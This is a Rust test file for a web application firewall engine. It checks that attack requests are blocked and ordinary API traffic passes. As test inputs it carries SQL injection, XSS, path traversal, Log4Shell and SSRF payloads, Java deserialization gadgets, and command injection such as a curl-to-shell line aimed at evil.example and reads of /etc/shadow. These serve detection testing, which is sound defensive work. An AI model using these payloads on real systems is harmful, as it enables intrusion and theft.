//! Runs the hand-written labelled corpus in `tests/corpus/*.jsonl` (same JSON Lines format
//! as the waf-dev corpus) through the engine: every attack must be blocked and every
//! legitimate request passed at the default sensitivity.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::PathBuf;

use portcullis_inspect::{Class, Engine, Request, Settings};

struct Case {
    id: String,
    label: String,
    method: String,
    path: String,
    query: String,
    headers: Vec<(String, Vec<u8>)>,
    body: Vec<u8>,
}

fn load(name: &str) -> Vec<Case> {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/corpus")
        .join(name);
    let text = std::fs::read_to_string(&path).unwrap();
    text.lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| {
            let v: serde_json::Value = serde_json::from_str(l).unwrap();
            let s = |k: &str| v[k].as_str().unwrap_or("").to_string();
            let headers = v["headers"]
                .as_object()
                .map(|h| {
                    h.iter()
                        .map(|(k, v)| {
                            (
                                k.to_ascii_lowercase(),
                                v.as_str().unwrap_or("").as_bytes().to_vec(),
                            )
                        })
                        .collect()
                })
                .unwrap_or_default();
            Case {
                id: s("id"),
                label: s("label"),
                method: s("method"),
                path: s("path"),
                query: s("query"),
                headers,
                body: s("body").into_bytes(),
            }
        })
        .collect()
}

fn inspect(engine: &Engine, c: &Case) -> portcullis_inspect::Inspection {
    let headers: Vec<(&str, &[u8])> = c
        .headers
        .iter()
        .map(|(k, v)| (k.as_str(), v.as_slice()))
        .collect();
    let req = Request {
        method: &c.method,
        path: &c.path,
        query: (!c.query.is_empty()).then_some(c.query.as_str()),
        headers: &headers,
        body: &c.body,
    };
    engine.inspect(&req)
}

#[test]
fn thin_class_attacks_are_blocked() {
    let engine = Engine::new(Settings::default());
    let cases = load("attacks-thin-classes.jsonl");
    // Counted after the label filter below, so a relabelled file cannot empty the test.
    assert!(cases.iter().filter(|c| c.label == "attack").count() >= 60);
    let missed: Vec<&str> = cases
        .iter()
        .filter(|c| c.label == "attack" && !inspect(&engine, c).blocked)
        .map(|c| c.id.as_str())
        .collect();
    assert!(missed.is_empty(), "attacks passed: {missed:?}");
}

#[test]
fn legit_api_traffic_passes() {
    let engine = Engine::new(Settings::default());
    let cases = load("legit-api.jsonl");
    assert!(cases.iter().filter(|c| c.label == "legit").count() >= 40);
    let blocked: Vec<String> = cases
        .iter()
        .filter(|c| c.label == "legit")
        .filter_map(|c| {
            let out = inspect(&engine, c);
            out.blocked
                .then(|| format!("{}: {:?}", c.id, out.findings.first()))
        })
        .collect();
    assert!(blocked.is_empty(), "legit requests blocked: {blocked:#?}");
}

#[test]
fn evidence_never_shows_the_authorization_header() {
    let engine = Engine::new(Settings::default());
    let headers: Vec<(&str, &[u8])> =
        vec![("authorization", b"Bearer ' or 1=1-- ${jndi:ldap://x/a}")];
    let req = Request {
        method: "GET",
        path: "/",
        query: None,
        headers: &headers,
        body: b"",
    };
    let out = engine.inspect(&req);
    assert!(out.blocked);
    for f in &out.findings {
        assert_eq!(f.location, "header.authorization");
        assert_eq!(f.evidence, "[redacted]");
    }
}

#[test]
fn locations_name_the_value() {
    let engine = Engine::new(Settings::default());
    let body = br#"{"items":[{"note":"ok"},{"note":"fine"},{"note":"' or 1=1--"}]}"#;
    let headers: Vec<(&str, &[u8])> = vec![
        ("content-type", b"application/json"),
        ("user-agent", b"<script>alert(1)</script>"),
        ("cookie", b"theme=dark; session=..%2F..%2F..%2Fetc%2Fpasswd"),
    ];
    let req = Request {
        method: "POST",
        path: "/a/b/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        query: Some("id=1%20union%20select%20password%20from%20users"),
        headers: &headers,
        body,
    };
    let out = engine.inspect(&req);
    let locs: Vec<(&str, Class)> = out
        .findings
        .iter()
        .map(|f| (f.location.as_str(), f.class))
        .collect();
    for want in [
        ("query.id", Class::Sqli),
        ("path[2]", Class::Xss),
        ("header.user-agent", Class::Xss),
        ("cookie.session", Class::Traversal),
        ("body.$.items[2].note", Class::Sqli),
    ] {
        assert!(locs.contains(&want), "missing {want:?} in {locs:?}");
    }
}

#[test]
fn form_and_multipart_locations() {
    let engine = Engine::new(Settings::default());
    let headers: Vec<(&str, &[u8])> = vec![("content-type", b"application/x-www-form-urlencoded")];
    let req = Request {
        method: "POST",
        path: "/c",
        query: None,
        headers: &headers,
        body: b"name=Ann&comment=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
    };
    let out = engine.inspect(&req);
    assert!(out
        .findings
        .iter()
        .any(|f| f.location == "body.form.comment" && f.class == Class::Xss));

    let body = b"--B\r\nContent-Disposition: form-data; name=\"bio\"\r\n\r\n$(curl http://evil.example/x|sh)\r\n--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../etc/cron.d/x\"\r\n\r\nhi\r\n--B--\r\n";
    let headers: Vec<(&str, &[u8])> = vec![("content-type", b"multipart/form-data; boundary=B")];
    let req = Request {
        method: "POST",
        path: "/u",
        query: None,
        headers: &headers,
        body,
    };
    let out = engine.inspect(&req);
    assert!(out
        .findings
        .iter()
        .any(|f| f.location == "body.multipart.bio" && f.class == Class::Cmdi));
    assert!(out
        .findings
        .iter()
        .any(|f| f.location == "body.multipart.f" && f.class == Class::Traversal));
}

#[test]
fn exclusion_lets_a_code_field_carry_sql() {
    let body = br#"{"title":"report","code":"SELECT name FROM users WHERE id = 1 UNION SELECT password FROM admins"}"#;
    let headers: Vec<(&str, &[u8])> = vec![("content-type", b"application/json")];
    let req = Request {
        method: "POST",
        path: "/snippets",
        query: None,
        headers: &headers,
        body,
    };
    assert!(Engine::new(Settings::default()).inspect(&req).blocked);
    let settings = Settings {
        exclusions: vec!["body.$.code:sqli".parse().unwrap()],
        ..Settings::default()
    };
    let out = Engine::new(settings).inspect(&req);
    assert!(!out.blocked, "{:?}", out.findings);
}

#[test]
fn double_encoding_and_parameter_pollution() {
    let engine = Engine::new(Settings::default());
    let headers: Vec<(&str, &[u8])> = vec![];
    for q in [
        "q=shoes&page=3&q=%27%20or%201%3D1--",
        "q=%2527%2520or%25201%253D1--",
        "q=%u0027%u0020or%u00201%u003d1--",
    ] {
        let req = Request {
            method: "GET",
            path: "/",
            query: Some(q),
            headers: &headers,
            body: b"",
        };
        assert!(engine.inspect(&req).blocked, "{q}");
    }
}

#[test]
fn graphql_and_xml_values_are_judged() {
    let engine = Engine::new(Settings::default());
    let body =
        br#"{"query":"query { user(name: \"x' union select password from users--\") { id } }"}"#;
    let headers: Vec<(&str, &[u8])> = vec![("content-type", b"application/json")];
    let req = Request {
        method: "POST",
        path: "/graphql",
        query: None,
        headers: &headers,
        body,
    };
    assert!(engine.inspect(&req).blocked);

    let body =
        b"<?xml version=\"1.0\"?><order><note>&lt;script&gt;alert(1)&lt;/script&gt;</note></order>";
    let headers: Vec<(&str, &[u8])> = vec![("content-type", b"application/xml")];
    let req = Request {
        method: "POST",
        path: "/orders",
        query: None,
        headers: &headers,
        body,
    };
    let out = engine.inspect(&req);
    assert!(
        out.findings
            .iter()
            .any(|f| f.location == "body.xml/order/note" && f.class == Class::Xss),
        "{:?}",
        out.findings
    );
}

/// `value` placed in a JSON field, a custom header, a query parameter, a cookie and, escaped,
/// in the text of an XML body: the inspection of each request.
fn placed(engine: &Engine, value: &str) -> Vec<(&'static str, portcullis_inspect::Inspection)> {
    fn pct(s: &str) -> String {
        s.bytes()
            .map(|b| {
                if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
                    (b as char).to_string()
                } else {
                    format!("%{b:02X}")
                }
            })
            .collect()
    }
    let json = serde_json::json!({ "order": { "note": value } }).to_string();
    let xml = format!(
        "<order><note>{}</note></order>",
        value
            .replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
    );
    let query = format!("q={}", pct(value));
    let cookie = format!("lang=en; pref={}", pct(value));
    /// Name, headers, query, body.
    type Placement<'a> = (
        &'static str,
        Vec<(&'a str, &'a [u8])>,
        Option<&'a str>,
        &'a [u8],
    );
    let cases: Vec<Placement<'_>> = vec![
        (
            "json",
            vec![("content-type", b"application/json")],
            None,
            json.as_bytes(),
        ),
        (
            "xml",
            vec![("content-type", b"application/xml")],
            None,
            xml.as_bytes(),
        ),
        (
            "header",
            vec![("x-client-note", value.as_bytes())],
            None,
            b"",
        ),
        ("cookie", vec![("cookie", cookie.as_bytes())], None, b""),
        ("query", vec![], Some(query.as_str()), b""),
    ];
    cases
        .into_iter()
        .map(|(name, headers, query, body)| {
            let req = Request {
                method: if body.is_empty() { "GET" } else { "POST" },
                path: "/api/v1/items",
                query,
                headers: &headers,
                body,
            };
            (name, engine.inspect(&req))
        })
        .collect()
}

#[test]
fn issue_5_xml_documents_inside_values_are_walked() {
    // A back end that receives an XML document in a field parses it: what an attribute or
    // the text holds, entities decoded, is judged on its own, wherever the document sits.
    let engine = Engine::new(Settings::default());
    let attacks = [
        r#"<?xml version="1.0"?><root><a probe="&lt;meta http-equiv=&quot;refresh&quot; content=&quot;0;url=javascript:alert(1)&quot;&gt;"></a></root>"#,
        r#"<?xml version="1.0"?><root><a probe="&lt;embed src=&quot;//evil.example/x.swf&quot;&gt;"></a></root>"#,
        r#"<?xml version="1.0" encoding="UTF-8"?><r><a p="/etc/passwd"></a></r>"#,
        r#"<?xml version="1.0"?><root><a probe=";cat /etc/shadow"></a></root>"#,
        r#"<?xml version="1.0"?><r><url>http://169.254.169.254/latest/meta-data/</url></r>"#,
        "<?XML version='1.0'?><r>&lt;img src=x onerror=alert(1)&gt;</r>",
    ];
    for a in attacks {
        for (place, out) in placed(&engine, a) {
            assert!(out.blocked, "{place}: {a} {:?}", out.findings);
        }
    }
    let legit = [
        r#"<?xml version="1.0" encoding="UTF-8"?><note lang="en"><to>Tove</to><message>Don't forget me this weekend &amp; bring the &lt;3 mug!</message></note>"#,
        r#"<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><m:GetPrice xmlns:m="https://www.example.com/prices"><m:Item>Apples &amp; pears</m:Item></m:GetPrice></soap:Body></soap:Envelope>"#,
        r#"<?xml version="1.0"?><invoice id="INV-2041"><line sku="A-17" qty="2">O'Brien &amp; Sons &#8212; 10% off</line><total currency="EUR">18.40</total></invoice>"#,
        r#"<?xml version="1.0"?><feed><entry><title>Select a plan &amp; drop-down menus</title><url>https://blog.example.com/posts/42?utm_source=rss&amp;id=7</url></entry></feed>"#,
    ];
    for l in legit {
        for (place, out) in placed(&engine, l) {
            assert!(!out.blocked, "{place}: {l} {:?}", out.findings);
        }
    }
}

#[test]
fn issue_5_json_documents_inside_values_are_walked() {
    // JSON in a query parameter, header, cookie or XML text is parsed by the API that takes
    // it there: its keys and strings are judged on their own, as in a JSON body.
    let engine = Engine::new(Settings::default());
    let attacks = [
        r#"{"test": "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"}"#,
        r#"{"filter": {"$where": "sleep(5000)"}}"#,
        r#"{"user": {"__proto__": {"isAdmin": true}}}"#,
        r#"[{"url": "http://169.254.169.254/latest/meta-data/iam/"}]"#,
        r#"{"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://evil.example/x"}"#,
    ];
    for a in attacks {
        for (place, out) in placed(&engine, a) {
            assert!(out.blocked, "{place}: {a} {:?}", out.findings);
        }
    }
    let legit = [
        r#"{"filters": {"brand": ["acme", "O'Brien"], "price": {"min": 10, "max": 99}}, "sort": "-popularity"}"#,
        r#"[0,0,1,24,"-",1920,1080,"en-US",{"tz":"Europe/Berlin"}]"#,
        r#"{"q": "select a plan", "tags": ["drop-down", "<3"], "page": 2}"#,
        r#"{"token": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl", "redirect": "https://app.example.com/done?x=1"}"#,
    ];
    for l in legit {
        for (place, out) in placed(&engine, l) {
            assert!(!out.blocked, "{place}: {l} {:?}", out.findings);
        }
    }
}

#[test]
fn issue_5_cookie_values_are_read_with_plus_as_space() {
    // PHP (and other back ends that URL-decode cookies) read `+` as a space.
    let engine = Engine::new(Settings::default());
    let run = |cookie: &str| {
        let headers: Vec<(&str, &[u8])> = vec![("cookie", cookie.as_bytes())];
        let req = Request {
            method: "GET",
            path: "/",
            query: None,
            headers: &headers,
            body: b"",
        };
        engine.inspect(&req)
    };
    for c in [
        "pref=1'+or+1=1--",
        "pref=x|+cat+/etc/shadow",
        "pref=<img+src=x+onerror=alert(1)>",
    ] {
        assert!(run(c).blocked, "{c}");
    }
    for c in [
        "pref=a+b+c; theme=dark+mode",
        "sid=AbC+dEf/gH1+iJk2lM3==; lang=en",
        "tz=UTC+02:00; q=select+a+plan",
    ] {
        let out = run(c);
        assert!(!out.blocked, "{c}: {:?}", out.findings);
    }
}
